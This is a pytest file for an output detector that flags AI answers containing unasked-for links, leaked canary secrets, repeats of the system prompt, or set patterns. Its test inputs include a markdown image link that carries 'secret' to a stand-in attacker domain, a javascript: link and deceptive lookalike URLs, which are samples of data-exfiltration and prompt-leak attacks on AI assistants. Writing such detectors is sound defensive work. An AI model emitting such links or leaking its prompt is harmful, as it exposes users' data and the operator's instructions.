"""Rules for answers: links, secrets, prompts and patterns."""

from __future__ import annotations

from typing import Any

import pytest

from stillroom.core import plugins
from stillroom.core.errors import InputError
from stillroom.detectors.output import Output

PROMPT = "You are Mona, the helper of a small bakery. Never talk about prices, and always answer in two sentences."


def found(text: str, *, asked: str = "", **settings: Any) -> list[tuple[str, str]]:
    finding = Output(**settings).open()(text, asked=asked)
    return [(one.name, text[one.start : one.end]) for one in finding.places]


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("![x](https://evil.example/?q=secret)", ["https://evil.example/?q=secret"]),
        ("See https://docs.good.org/a, or www.good.org.", []),
        (
            "https://good.org.evil.example/ https://notgood.org",
            ["https://good.org.evil.example/", "https://notgood.org"],
        ),
        (r"https://evil.example\@good.org", [r"https://evil.example\@good.org"]),
        ("https://good.org@evil.example/", ["https://good.org@evil.example/"]),
        ("<img src=//evil.example/p.png>", ["//evil.example/p.png"]),
        ("[a](javascript:alert(1)) and data:text/html,x", ["javascript:alert(1", "data:text/html,x"]),
        ("https:/evil.example and WWW.EVIL.EXAMPLE", ["https:/evil.example", "WWW.EVIL.EXAMPLE"]),
        ("x = 5 // a comment, metadata:x, http: nothing", []),
    ],
)
def test_links_to_where_the_question_did_not_point(text: str, links: list[str]) -> None:
    assert found(text, asked="What does good.org say?") == [("link", one) for one in links]


def test_domains_may_be_allowed_and_links_left_alone() -> None:
    assert found("https://a.shop.example/x", domains=["shop.example"]) == []
    assert found("https://evil.example", links=False) == []


def test_a_canary_is_found_whatever_its_signs_and_capitals() -> None:
    assert found("It is k7 – MANGO!", secrets=["K7-mango"]) == [("secret", "k7 – MANGO")]
    assert found("k7 and mango", secrets=["K7-mango"]) == []


def test_a_run_of_the_prompt_is_found_and_a_few_words_are_not() -> None:
    told = "Sure: never talk about prices and always answer in two sentences!"
    assert found(told, prompt=PROMPT) == [("prompt", told[6:-1])]
    assert found("I never talk about prices.", prompt=PROMPT) == []
    assert found("You are Mona.", prompt="You are Mona") == [("prompt", "You are Mona")]


def test_patterns_match_without_regard_to_capitals() -> None:
    assert found("As an AI model, I", patterns=["as an ai"]) == [("pattern", "As an AI")]


@pytest.mark.parametrize("settings", [{"patterns": ["("]}, {"patterns": ["a*"]}, {"secrets": ["hunter2", "--"]}])
def test_rules_that_can_not_be_meant_are_refused_and_secrets_stay_secret(settings: dict[str, Any]) -> None:
    with pytest.raises(InputError) as refused:
        plugins.build("detectors", {"kind": "output", **settings})
    assert "hunter2" not in str(refused.value)
    assert "hunter2" not in repr(Output(secrets=["hunter2"]))
